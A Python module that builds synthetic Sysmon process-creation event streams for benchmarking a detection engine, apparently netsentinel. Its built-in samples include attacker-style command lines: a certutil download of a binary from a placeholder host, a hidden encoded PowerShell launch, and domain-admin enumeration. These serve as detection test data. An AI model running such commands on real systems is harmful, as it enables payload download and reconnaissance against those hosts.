"""Lanes for `netsentinel bench detect`: streams of Windows process creations, made the same way every time.

Every event is a flat record with the names that Sigma's rules speak, as log shippers send them, without the rendered
message. On the unique lane no command line comes twice, so that nothing is gained by remembering values; on the
repeated lane they come back, as they do in ordinary telemetry.
"""

from collections.abc import Iterable, Iterator, Sequence
from enum import StrEnum
from hashlib import blake2b
from pathlib import Path
from typing import Any

import msgspec

_SYSTEM32 = "C:\\Windows\\System32\\"
_PROCESSES = (
    ("svchost.exe", "services.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("svchost.exe", "services.exe", "C:\\Windows\\system32\\svchost.exe -k LocalService -p -s fdPHost"),
    ("cmd.exe", "explorer.exe", '"C:\\Windows\\system32\\cmd.exe" /c dir C:\\Users\\ann\\Documents'),
    ("whoami.exe", "cmd.exe", "whoami /all"),
    ("ipconfig.exe", "cmd.exe", "ipconfig /all"),
    ("net.exe", "cmd.exe", 'net group "Domain Admins" /domain'),
    ("reg.exe", "cmd.exe", "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /s"),
    ("schtasks.exe", "cmd.exe", "schtasks /create /sc daily /tn Backup /tr C:\\Tools\\backup.bat"),
    ("rundll32.exe", "svchost.exe", "C:\\Windows\\System32\\rundll32.exe shell32.dll,SHCreateLocalServerRunDll"),
    ("powershell.exe", "explorer.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Tools\\report.ps1"),
    ("powershell.exe", "cmd.exe", "powershell -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA=="),
    ("wmiprvse.exe", "svchost.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
    ("taskhostw.exe", "svchost.exe", "taskhostw.exe Install $(Arg0)"),
    ("conhost.exe", "cmd.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ("certutil.exe", "cmd.exe", "certutil -urlcache -split -f http://files.example.org/tool.bin C:\\Temp\\tool.bin"),
    ("msiexec.exe", "explorer.exe", "C:\\Windows\\System32\\msiexec.exe /i C:\\Users\\ann\\Downloads\\viewer.msi /qn"),
    ("sc.exe", "cmd.exe", "sc query type= service state= all"),
    ("backgroundTaskHost.exe", "svchost.exe", "backgroundTaskHost.exe -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hb.mca"),
)
"""Program, its parent and its command line."""

_TOKEN_BYTES = 6
_CLOCK_STEP_MS = 7


class Lane(StrEnum):
    """How often command lines come back."""

    UNIQUE = "unique"
    REPEATED = "repeated"


def templates(file: Path | None) -> list[dict[str, Any]]:
    """The process creations of a file of Windows events, or the built-in ones.

    Raises:
        InvalidInputError: the file has none.
        NotFoundError: there is no such file.
    """
    if file is None:
        return [_built_in(*process) for process in _PROCESSES]
    found = list(_creations(file))
    if not found:
        from netsentinel.kernel.errors import InvalidInputError

        raise InvalidInputError(f"{file} has no Windows process creations.")
    return found


def batches(kept: Sequence[dict[str, Any]], lane: Lane, events: int, size: int) -> Iterator[bytes]:
    """Newline-separated JSON records, `size` at a time: the templates in turn, each with a time and ids of its own."""
    for start in range(0, events, size):
        numbers = range(start, min(start + size, events))
        yield b"\n".join(_record(kept[number % len(kept)], lane, number) for number in numbers)


def _record(template: dict[str, Any], lane: Lane, number: int) -> bytes:
    token = blake2b(number.to_bytes(8, "big"), digest_size=_TOKEN_BYTES).hexdigest()
    seconds, milliseconds = divmod(number * _CLOCK_STEP_MS, 1_000)
    clock = f"{seconds // 3600 % 24:02}:{seconds // 60 % 60:02}:{seconds % 60:02}.{milliseconds:03}"
    own = {
        "UtcTime": f"2026-03-02 {clock}",
        "ProcessGuid": f"{{6c4b35a1-0000-6650-{token[:4]}-{token}}}",
        "ProcessId": str(1_000 + number % 60_000),
    }
    if lane is Lane.UNIQUE:
        own["CommandLine"] = f"{template['CommandLine']} {token}"
    return msgspec.json.encode(template | own)


def _built_in(program: str, parent: str, command: str) -> dict[str, Any]:
    digest = blake2b(program.encode(), digest_size=32).hexdigest().upper()
    return {
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Computer": "ws01.example.org",
        "RuleName": "-",
        "Image": _SYSTEM32 + program,
        "FileVersion": "10.0.20348.1 (WinBuild.160101.0800)",
        "Description": program.partition(".")[0],
        "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation",
        "OriginalFileName": program,
        "CommandLine": command,
        "CurrentDirectory": "C:\\Users\\ann\\",
        "User": "EXAMPLE\\ann",
        "LogonGuid": "{6c4b35a1-fbf6-64b5-b727-060000000000}",
        "LogonId": "0x627b7",
        "TerminalSessionId": "1",
        "IntegrityLevel": "Medium",
        "Hashes": f"MD5={digest[:32]},SHA256={digest},IMPHASH={digest[32:]}",
        "ParentProcessGuid": "{6c4b35a1-fc03-64b5-7b00-000000001000}",
        "ParentProcessId": "788",
        "ParentImage": _SYSTEM32 + parent,
        "ParentCommandLine": parent,
        "ParentUser": "EXAMPLE\\ann",
    }


def _creations(file: Path) -> Iterator[dict[str, Any]]:
    from netsentinel.events.files import read_records

    decoder: msgspec.json.Decoder[Any] = msgspec.json.Decoder()
    yield from _creations_of(decoder.decode(line) for _, line in read_records([file]))


def _creations_of(records: Iterable[Any]) -> Iterator[dict[str, Any]]:
    from netsentinel.events.columns import table
    from netsentinel.events.formats import FORMATS
    from netsentinel.kernel.types import DEFAULT_TENANT

    windows = FORMATS["windows"]
    for record in records:
        native = table(record)
        if not windows.recognises(native):
            continue
        event = windows.parse(native, b"", DEFAULT_TENANT, "bench")
        if event.logsource.category == "process_creation" and isinstance(event.native.get("CommandLine"), str):
            yield {name: value for name, value in event.native.items() if name not in {"Message", "Event"}}
